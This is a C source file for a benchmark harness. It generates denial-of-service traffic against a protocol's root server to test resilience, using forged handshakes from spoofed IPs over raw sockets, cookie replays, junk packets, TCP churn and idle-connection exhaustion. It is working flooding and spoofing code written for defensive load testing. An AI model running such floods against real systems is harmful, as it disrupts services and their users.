/* SPDX-License-Identifier: MIT */
/*
 * dosgen.c - hostile traffic against a zt-root, for bench/dos.sh.  Packets
 * are built with the core's own codec (bench/hsclient.c over node/noise.h,
 * node/cookie.h, node/session.h) and sent in batches with sendmmsg, paced
 * to a rate, so one core reaches 100k packets/s.  Spoofed sources come
 * from a raw socket (IP_HDRINCL) and are drawn at random from a prefix the
 * harness routes to a sink.
 *
 * Modes (what the root gets):
 *   forged-fresh   HS_INITs whose key does not give the claimed address,
 *                  each with a new claimed address and sender index (and
 *                  so new MACs), a Noise body from a pool of -K made at
 *                  start (each with its own static and ephemeral key), from
 *                  a random spoofed source; no mac2
 *   forged-replay  one such HS_INIT, the same bytes every time, from random
 *                  spoofed sources
 *   cookie-replay  one HS_INIT of a real identity (its first contact), with
 *                  mac2 from a cookie the root gave our real source, the
 *                  same bytes every time from that source
 *   cookie-forged  the same with a forged identity (address not its key)
 *   junk           random bytes behind a valid outer header (version 1, a
 *                  random type, the root as destination, a random source
 *                  address), 12..1400 bytes, from random spoofed sources
 *   tcp-churn      connect to the root's TCP port and reset at once, many
 *                  in flight, from the addresses of a /24 in turn
 *   tcp-idle       open up to -c connections (the same way) and hold them
 *                  without a byte: the rate limits the opening only
 *   auth-MSG       a session of our own (real source, real identity), then
 *                  authenticated DATA carrying MSG from random spoofed
 *                  sources: the root takes each as a new path of ours and
 *                  answers there.  MSG: echo register whois rendezvous
 *                  announce (whois and rendezvous name -A, announce the
 *                  bench network that bench/rekeyer's nodes are in)
 *
 * Results are "key value" lines on stdout ("sent" counts packets, or
 * connections in the tcp modes).
 *
 *   dosgen MODE -r ROOT_IDENTITY -d ROOT_IP [-p PORT] [-T TCP_PORT]
 *          [-t SECONDS] [-P PER_SECOND] [-S SRC_IP] [-s SPOOF_NET/BITS]
 *          [-a TCP_NET/24] [-K POOL] [-c CONNS] [-A ADDRESS]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "bench/hsclient.h"
#include "node/util.h"

#define BATCH   64
#define PKT_MAX 1500

struct opts {
	const char *mode, *root_text, *root_ip, *src_ip, *spoof, *tcp_net;
	uint16_t port, tcp_port;
	unsigned secs, pps, pool, conns;
	uint64_t target;
};

/* What fills one datagram: the payload and, for spoofed modes, the source. */
typedef size_t (*fill_fn)(void *ctx, uint8_t *payload, uint32_t *src_ip, uint16_t *src_port);

static volatile sig_atomic_t stop;
static struct opts o;
static struct hsclient_root root;
static struct sockaddr_in root_sa;
static uint64_t rng_state = 0x9e3779b97f4a7c15ULL;
static uint32_t spoof_net, spoof_mask;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* splitmix64: attack traffic needs speed, not secrecy. */
static uint64_t rnd(void)
{
	uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static double mono(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t wall_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static void sodium_random(void *ctx, void *buf, size_t len)
{
	(void)ctx;
	randombytes_buf(buf, len);
}

static void spoof_source(uint32_t *ip, uint16_t *port)
{
	uint64_t r = rnd();
	*ip = spoof_net | ((uint32_t)r & ~spoof_mask);
	*port = (uint16_t)(1024 + (r >> 32) % 64000);
}

/* Sleep until `n` items are due at `pps` per second since t0 (0: no pacing). */
static void pace(double t0, uint64_t n)
{
	double due, now;
	if (o.pps == 0)
		return;
	due = t0 + (double)n / o.pps;
	now = mono();
	if (due > now) {
		struct timespec ts = {(time_t)(due - now),
		                      (long)((due - now - (time_t)(due - now)) * 1e9)};
		nanosleep(&ts, NULL);
	}
}

/* ---- raw (spoofed) and plain UDP senders ---- */

static int raw_socket(void)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), big = 4 << 20;
	if (fd < 0) {
		perror("dosgen: raw socket (run as root)");
		return -1;
	}
	(void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
	return fd;
}

/* Flood through `fd`: raw (IPv4 + UDP header built here, source from fill)
 * or a connected UDP socket (payload only).  Returns packets sent. */
static uint64_t flood(int fd, bool raw, fill_fn fill, void *ctx, void (*between)(void *),
                      double *secs)
{
	static uint8_t bufs[BATCH][PKT_MAX];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	uint64_t sent = 0;
	double t0 = mono(), end = t0 + o.secs;

	memset(msgs, 0, sizeof msgs);
	while (!stop && mono() < end) {
		int r;
		for (int i = 0; i < BATCH; i++) {
			uint8_t *b = bufs[i];
			uint32_t sip = 0;
			uint16_t sport = 0;
			size_t hl = raw ? sizeof(struct iphdr) + sizeof(struct udphdr) : 0;
			size_t len = fill(ctx, b + hl, &sip, &sport);
			if (raw) {
				struct iphdr *ip = (struct iphdr *)b;
				struct udphdr *uh = (struct udphdr *)(b + sizeof *ip);
				memset(ip, 0, sizeof *ip);
				ip->version = 4;
				ip->ihl = 5;
				ip->ttl = 64;
				ip->protocol = IPPROTO_UDP;
				ip->tot_len = htons((uint16_t)(hl + len));
				ip->saddr = htonl(sip);
				ip->daddr = root_sa.sin_addr.s_addr;
				uh->source = htons(sport);
				uh->dest = root_sa.sin_port;
				uh->len = htons((uint16_t)(sizeof *uh + len));
				uh->check = 0; /* optional in IPv4 */
				msgs[i].msg_hdr.msg_name = &root_sa;
				msgs[i].msg_hdr.msg_namelen = sizeof root_sa;
			}
			iov[i].iov_base = b;
			iov[i].iov_len = hl + len;
			msgs[i].msg_hdr.msg_iov = &iov[i];
			msgs[i].msg_hdr.msg_iovlen = 1;
		}
		r = sendmmsg(fd, msgs, BATCH, 0);
		if (r < 0 && errno != EINTR && errno != ENOBUFS && errno != EAGAIN) {
			perror("dosgen: sendmmsg");
			break;
		}
		if (r > 0)
			sent += (uint64_t)r;
		if (between != NULL)
			between(ctx);
		pace(t0, sent);
	}
	*secs = mono() - t0;
	return sent;
}

static int udp_socket(void)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), big = 4 << 20;

	if (fd < 0)
		return -1;
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	if ((o.src_ip != NULL && inet_pton(AF_INET, o.src_ip, &sa.sin_addr) != 1) ||
	    bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0 ||
	    connect(fd, (struct sockaddr *)&root_sa, sizeof root_sa) < 0) {
		perror("dosgen: udp socket");
		close(fd);
		return -1;
	}
	(void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
	return fd;
}

/* Wait up to ms for one datagram on fd. */
static ssize_t recv_wait(int fd, uint8_t *buf, size_t cap, int ms)
{
	struct pollfd p = {fd, POLLIN, 0};
	if (poll(&p, 1, ms) <= 0)
		return -1;
	return recv(fd, buf, cap, MSG_DONTWAIT);
}

/* ---- forged initiations ---- */

/* A key that does not give the claimed address: any fresh key pair, since
 * its real address matches a random one with probability 2^-40. */
static void forged_identity(struct zt_identity *id)
{
	uint8_t seed[32];
	memset(id, 0, sizeof *id);
	randombytes_buf(seed, sizeof seed);
	crypto_sign_seed_keypair(id->pk, id->sk, seed);
	id->has_secret = true;
	id->address = hsclient_address(rnd());
	sodium_memzero(seed, sizeof seed);
}

static int make_init(uint8_t pkt[ZT_HS_INIT_LEN], const struct zt_identity *id)
{
	uint8_t seed[32];
	int r;
	randombytes_buf(seed, sizeof seed);
	r = hsclient_init(pkt, NULL, &root, id, id->address, (uint32_t)rnd(), wall_ms(), seed,
	                  NULL);
	sodium_memzero(seed, sizeof seed);
	return r;
}

struct forged {
	uint8_t (*pool)[ZT_HS_INIT_LEN];
	unsigned n, next;
	bool fresh;
};

static size_t fill_forged(void *ctx, uint8_t *p, uint32_t *sip, uint16_t *sport)
{
	struct forged *f = ctx;
	memcpy(p, f->pool[f->next], ZT_HS_INIT_LEN);
	if (f->fresh) {
		f->next = (f->next + 1) % f->n;
		hsclient_readdress(p, &root, hsclient_address(rnd()), (uint32_t)rnd(), NULL);
	}
	spoof_source(sip, sport);
	return ZT_HS_INIT_LEN;
}

static int run_forged(bool fresh)
{
	struct forged f = {NULL, fresh ? o.pool : 1, 0, fresh};
	struct zt_identity id;
	double secs;
	uint64_t sent;
	int fd = raw_socket();

	if (fd < 0)
		return 1;
	f.pool = calloc(f.n, ZT_HS_INIT_LEN);
	if (f.pool == NULL)
		return 1;
	for (unsigned i = 0; i < f.n; i++) {
		forged_identity(&id);
		if (make_init(f.pool[i], &id) != ZT_OK)
			return 1;
		zt_identity_wipe(&id);
	}
	sent = flood(fd, true, fill_forged, &f, NULL, &secs);
	printf("sent %" PRIu64 "\nsecs %.3f\npool %u\n", sent, secs, f.n);
	free(f.pool);
	close(fd);
	return 0;
}

/* ---- replays with a valid cookie ---- */

struct cookied {
	int fd;
	uint8_t pkt[ZT_HS_INIT_LEN];
	uint8_t cookie[16];
	uint64_t refreshed, answered;
};

/* Take a COOKIE for our initiation: a new mac2 (the root's secret
 * rotated, or it asks again); an HS_RESP: the root did the whole handshake. */
static bool take_reply(struct cookied *c, const uint8_t *buf, ssize_t r)
{
	const uint8_t *mac1 = c->pkt + ZT_HS_INIT_LEN - 2 * ZT_MAC_LEN;
	if (r == ZT_HS_RESP_LEN && (buf[0] & 0x0f) == ZT_PT_HS_RESP) {
		c->answered++;
		return false;
	}
	if (r < 0 || hsclient_cookie(c->cookie, &root, mac1, buf, (size_t)r) != ZT_OK)
		return false;
	hsclient_macs(c->pkt, &root, c->cookie);
	c->refreshed++;
	return true;
}

static void cookie_between(void *ctx)
{
	struct cookied *c = ctx;
	uint8_t buf[256];
	ssize_t r;
	while ((r = recv(c->fd, buf, sizeof buf, MSG_DONTWAIT)) > 0)
		(void)take_reply(c, buf, r);
}

static size_t fill_cookied(void *ctx, uint8_t *p, uint32_t *sip, uint16_t *sport)
{
	struct cookied *c = ctx;
	(void)sip;
	(void)sport;
	memcpy(p, c->pkt, ZT_HS_INIT_LEN);
	return ZT_HS_INIT_LEN;
}

static int run_cookie(bool forged)
{
	struct cookied c;
	struct zt_identity id;
	uint8_t buf[256];
	double t0 = mono(), secs;
	uint64_t sent;
	bool have = false;

	memset(&c, 0, sizeof c);
	c.fd = udp_socket();
	if (c.fd < 0)
		return 1;
	if (forged)
		forged_identity(&id);
	else if (zt_identity_generate(&id, sodium_random, NULL) != ZT_OK)
		return 1;
	/* A root asks a source for a cookie once the source is past its
	 * budget of initiations (ZT_HS_DH_SRC_BURST, then ZT_HS_DH_SRC_RATE
	 * a second): new ones, since one it saw before is dropped unanswered.
	 * The cookie of the last one is kept (the COOKIE is sealed to its
	 * mac1), and that initiation is what the flood replays. */
	while (!have && !stop && mono() - t0 < 10) {
		for (int i = 0; i <= ZT_HS_DH_SRC_BURST + 8; i++) {
			if (make_init(c.pkt, &id) != ZT_OK) {
				zt_identity_wipe(&id);
				return 1;
			}
			(void)send(c.fd, c.pkt, sizeof c.pkt, 0);
		}
		while (!have && (mono() - t0 < 10)) {
			ssize_t r = recv_wait(c.fd, buf, sizeof buf, 300);
			if (r < 0)
				break;
			have = take_reply(&c, buf, r);
		}
	}
	zt_identity_wipe(&id);
	if (!have) {
		fprintf(stderr, "dosgen: the root gave no cookie\n");
		printf("sent 0\nsecs 0\nerror no_cookie\n");
		return 1;
	}
	c.refreshed = c.answered = 0;
	sent = flood(c.fd, false, fill_cookied, &c, cookie_between, &secs);
	printf("sent %" PRIu64 "\nsecs %.3f\ncookie_refreshes %" PRIu64 "\nhs_answered %" PRIu64
	       "\n",
	       sent, secs, c.refreshed, c.answered);
	close(c.fd);
	return 0;
}

/* ---- junk ---- */

static size_t fill_junk(void *ctx, uint8_t *p, uint32_t *sip, uint16_t *sport)
{
	struct zt_hdr h = {(uint8_t)(1 + rnd() % 5), 0, root.address, hsclient_address(rnd())};
	size_t len = 12 + (size_t)(rnd() % (1400 - 12 + 1));
	(void)ctx;
	zt_wire_hdr_encode(p, &h);
	for (size_t i = ZT_HDR_LEN; i < len; i += 8) {
		uint64_t v = rnd();
		memcpy(p + i, &v, len - i < 8 ? len - i : 8);
	}
	spoof_source(sip, sport);
	return len;
}

static int run_junk(void)
{
	double secs;
	uint64_t sent;
	int fd = raw_socket();
	if (fd < 0)
		return 1;
	sent = flood(fd, true, fill_junk, NULL, NULL, &secs);
	printf("sent %" PRIu64 "\nsecs %.3f\n", sent, secs);
	close(fd);
	return 0;
}

/* ---- TCP ---- */

static uint32_t tcp_base;

/* A non-blocking connect from the next address of the /24. */
static int tcp_open(unsigned k)
{
	struct sockaddr_in sa, dst = root_sa;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), one = 1;

	if (fd < 0)
		return -1;
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_addr.s_addr = htonl(tcp_base | (1 + k % 254));
	(void)setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	dst.sin_port = htons(o.tcp_port);
	if (bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0 ||
	    (connect(fd, (struct sockaddr *)&dst, sizeof dst) < 0 && errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	return fd;
}

static void tcp_reset(int fd)
{
	struct linger l = {1, 0}; /* RST: no TIME_WAIT, the ports last */
	(void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &l, sizeof l);
	close(fd);
}

static int run_tcp(bool idle)
{
	enum { WINDOW = 1024 }; /* SYNs a full accept queue dropped wait 1 s */
	struct epoll_event evs[WINDOW];
	struct rlimit rl;
	uint64_t opened = 0, connected = 0, failed = 0, closed_by_root = 0, held = 0;
	unsigned inflight = 0, cap = idle ? o.conns : 0;
	double t0 = mono(), end = t0 + o.secs;
	int ep = epoll_create1(EPOLL_CLOEXEC);

	if (ep < 0)
		return 1;
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
		rl.rlim_cur = rl.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &rl);
	}
	while (!stop && mono() < end) {
		int n;
		/* Keep WINDOW connects in flight (churn), or open until the cap. */
		while (inflight < WINDOW && (!idle || connected + inflight < cap)) {
			struct epoll_event ev;
			int fd;
			if (o.pps > 0 && opened >= (uint64_t)((mono() - t0) * o.pps))
				break;
			fd = tcp_open((unsigned)opened);
			opened++;
			if (fd < 0) {
				failed++;
				break;
			}
			ev.events = EPOLLOUT | EPOLLRDHUP;
			ev.data.u64 = (uint64_t)fd << 1; /* bit 0: connected */
			if (epoll_ctl(ep, EPOLL_CTL_ADD, fd, &ev) < 0) {
				close(fd);
				failed++;
				continue;
			}
			inflight++;
		}
		n = epoll_wait(ep, evs, WINDOW, 1);
		for (int i = 0; i < n; i++) {
			int fd = (int)(evs[i].data.u64 >> 1), err = 0;
			bool was = evs[i].data.u64 & 1;
			socklen_t el = sizeof err;
			if (!was) {
				inflight--;
				(void)getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &el);
				if (err != 0 || (evs[i].events & (EPOLLERR | EPOLLHUP))) {
					failed++;
					close(fd);
					continue;
				}
				connected++;
				if (!idle) {
					tcp_reset(fd);
					continue;
				}
				struct epoll_event ev = {EPOLLRDHUP,
				                         {.u64 = (uint64_t)fd << 1 | 1}};
				(void)epoll_ctl(ep, EPOLL_CTL_MOD, fd, &ev);
				held++;
				continue;
			}
			/* A held connection the root closed (or reset). */
			closed_by_root++;
			held--;
			close(fd);
		}
	}
	printf("sent %" PRIu64 "\nsecs %.3f\ntcp_connected %" PRIu64 "\ntcp_failed %" PRIu64
	       "\ntcp_closed_by_root %" PRIu64 "\ntcp_held %" PRIu64 "\n",
	       idle ? connected : opened, mono() - t0, connected, failed, closed_by_root, held);
	close(ep); /* the process exit closes the held ones */
	return 0;
}

/* ---- authenticated messages from spoofed sources ---- */

struct authed {
	struct zt_identity id;
	struct zt_keypair kp;
	uint8_t msg[16];
	size_t len;
	bool stamp; /* msg carries a sent_at u64 at this offset */
	size_t stamp_off;
};

static size_t fill_authed(void *ctx, uint8_t *p, uint32_t *sip, uint16_t *sport)
{
	struct authed *a = ctx;
	if (a->stamp)
		zt_put_u64(a->msg + a->stamp_off, wall_ms());
	spoof_source(sip, sport);
	return zt_session_seal(&a->kp, root.address, a->id.address, a->msg, a->len, p);
}

/* A handshake and a REGISTER from our real source (fd). */
static int session(struct authed *a, int fd)
{
	struct hsclient_hs hs;
	uint8_t pkt[ZT_HS_INIT_LEN], buf[1500], out[1500], seed[32];
	uint8_t cookie[16];
	bool has_cookie = false;
	double t0 = mono();

	while (!stop && mono() - t0 < 10) {
		ssize_t r;
		size_t ol;
		randombytes_buf(seed, sizeof seed);
		if (hsclient_init(pkt, &hs, &root, &a->id, a->id.address, (uint32_t)rnd(),
		                  wall_ms(), seed, has_cookie ? cookie : NULL) != ZT_OK)
			return -1;
		(void)send(fd, pkt, sizeof pkt, 0);
		r = recv_wait(fd, buf, sizeof buf, 1000);
		if (r > 0 && hsclient_cookie(cookie, &root, hs.mac1, buf, (size_t)r) == ZT_OK) {
			has_cookie = true;
			continue;
		}
		if (r <= 0 || hsclient_resp(&hs, &a->id, buf, (size_t)r, &a->kp) != ZT_OK)
			continue;
		buf[0] = ZT_MSG_REGISTER;
		zt_put_u64(buf + 1, wall_ms());
		r = (ssize_t)zt_session_seal(&a->kp, root.address, a->id.address, buf, 9, out);
		(void)send(fd, out, (size_t)r, 0);
		while ((r = recv_wait(fd, buf, sizeof buf, 1000)) > 0)
			if (zt_session_open(&a->kp, buf, (size_t)r, out, &ol) == ZT_OK && ol > 0 &&
			    out[0] == ZT_MSG_REGISTER_OK)
				return 0;
	}
	return -1;
}

static int run_auth(const char *what)
{
	struct authed a;
	double secs;
	uint64_t sent;
	int fd, raw;

	memset(&a, 0, sizeof a);
	if (strcmp(what, "echo") == 0) {
		a.msg[0] = ZT_MSG_ECHO;
		a.len = 13;
		a.stamp = true;
		a.stamp_off = 5;
	} else if (strcmp(what, "register") == 0) {
		a.msg[0] = ZT_MSG_REGISTER;
		a.len = 9;
		a.stamp = true;
		a.stamp_off = 1;
	} else if (strcmp(what, "whois") == 0 || strcmp(what, "rendezvous") == 0) {
		a.msg[0] = what[0] == 'w' ? ZT_MSG_WHOIS : ZT_MSG_RENDEZVOUS_REQ;
		zt_put_u40(a.msg + 1, o.target);
		a.len = 6;
	} else if (strcmp(what, "announce") == 0) {
		a.msg[0] = ZT_MSG_NET_ANNOUNCE;
		zt_wire_nethash(HSCLIENT_BENCH_NWID, a.msg + 1);
		a.msg[9] = 0;
		a.len = 10;
	} else {
		fprintf(stderr, "dosgen: unknown message %s\n", what);
		return 2;
	}
	fd = udp_socket();
	raw = raw_socket();
	if (fd < 0 || raw < 0 || zt_identity_generate(&a.id, sodium_random, NULL) != ZT_OK)
		return 1;
	if (session(&a, fd) < 0) {
		fprintf(stderr, "dosgen: no session with the root\n");
		printf("sent 0\nsecs 0\nerror no_session\n");
		return 1;
	}
	sent = flood(raw, true, fill_authed, &a, NULL, &secs);
	printf("sent %" PRIu64 "\nsecs %.3f\n", sent, secs);
	zt_session_wipe(&a.kp);
	zt_identity_wipe(&a.id);
	close(raw);
	close(fd);
	return 0;
}

/* ---- main ---- */

static int parse_net(const char *s, uint32_t *net, uint32_t *mask)
{
	char ip[32];
	const char *slash = strchr(s, '/');
	struct in_addr a;
	int bits;

	if (slash == NULL || (size_t)(slash - s) >= sizeof ip)
		return -1;
	memcpy(ip, s, (size_t)(slash - s));
	ip[slash - s] = 0;
	bits = atoi(slash + 1);
	if (inet_pton(AF_INET, ip, &a) != 1 || bits < 8 || bits > 32)
		return -1;
	*mask = bits == 32 ? 0xffffffffu : ~(0xffffffffu >> bits);
	*net = ntohl(a.s_addr) & *mask;
	return 0;
}

static int usage(void)
{
	fprintf(stderr,
	        "usage: dosgen MODE -r ROOT_IDENTITY -d ROOT_IP [-p PORT] [-T TCP_PORT] "
	        "[-t SECONDS] [-P PER_SECOND] [-S SRC_IP] [-s SPOOF_NET/BITS] [-a TCP_NET/24] "
	        "[-K POOL] [-c CONNS] [-A ADDRESS]\n"
	        "  MODE: forged-fresh forged-replay cookie-replay cookie-forged junk tcp-churn "
	        "tcp-idle auth-echo auth-register auth-whois auth-rendezvous auth-announce\n");
	return 2;
}

int main(int argc, char **argv)
{
	uint32_t tcp_mask;
	int c;

	o = (struct opts){
	    NULL,   NULL, NULL,  NULL, "198.19.0.0/16", "203.0.113.0/24", 9993, 443, 10,
	    100000, 4096, 10000, 0};
	if (argc < 2)
		return usage();
	o.mode = argv[1];
	optind = 2;
	while ((c = getopt(argc, argv, "r:d:p:T:t:P:S:s:a:K:c:A:")) != -1) {
		switch (c) {
		case 'r': o.root_text = optarg; break;
		case 'd': o.root_ip = optarg; break;
		case 'p': o.port = (uint16_t)atoi(optarg); break;
		case 'T': o.tcp_port = (uint16_t)atoi(optarg); break;
		case 't': o.secs = (unsigned)atoi(optarg); break;
		case 'P': o.pps = (unsigned)atoi(optarg); break;
		case 'S': o.src_ip = optarg; break;
		case 's': o.spoof = optarg; break;
		case 'a': o.tcp_net = optarg; break;
		case 'K': o.pool = (unsigned)atoi(optarg); break;
		case 'c': o.conns = (unsigned)atoi(optarg); break;
		case 'A': o.target = strtoull(optarg, NULL, 16); break;
		default: return usage();
		}
	}
	if (o.root_text == NULL || o.root_ip == NULL || o.pool == 0 || o.secs == 0)
		return usage();
	if (sodium_init() < 0 || hsclient_root_parse(&root, o.root_text) != ZT_OK) {
		fprintf(stderr, "dosgen: bad root identity\n");
		return 1;
	}
	memset(&root_sa, 0, sizeof root_sa);
	root_sa.sin_family = AF_INET;
	root_sa.sin_port = htons(o.port);
	if (inet_pton(AF_INET, o.root_ip, &root_sa.sin_addr) != 1 ||
	    parse_net(o.spoof, &spoof_net, &spoof_mask) < 0 ||
	    parse_net(o.tcp_net, &tcp_base, &tcp_mask) < 0)
		return usage();
	randombytes_buf(&rng_state, sizeof rng_state);
	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);
	printf("mode %s\n", o.mode);
	if (strcmp(o.mode, "forged-fresh") == 0)
		return run_forged(true);
	if (strcmp(o.mode, "forged-replay") == 0)
		return run_forged(false);
	if (strcmp(o.mode, "cookie-replay") == 0)
		return run_cookie(false);
	if (strcmp(o.mode, "cookie-forged") == 0)
		return run_cookie(true);
	if (strcmp(o.mode, "junk") == 0)
		return run_junk();
	if (strcmp(o.mode, "tcp-churn") == 0)
		return run_tcp(false);
	if (strcmp(o.mode, "tcp-idle") == 0)
		return run_tcp(true);
	if (strncmp(o.mode, "auth-", 5) == 0)
		return run_auth(o.mode + 5);
	return usage();
}
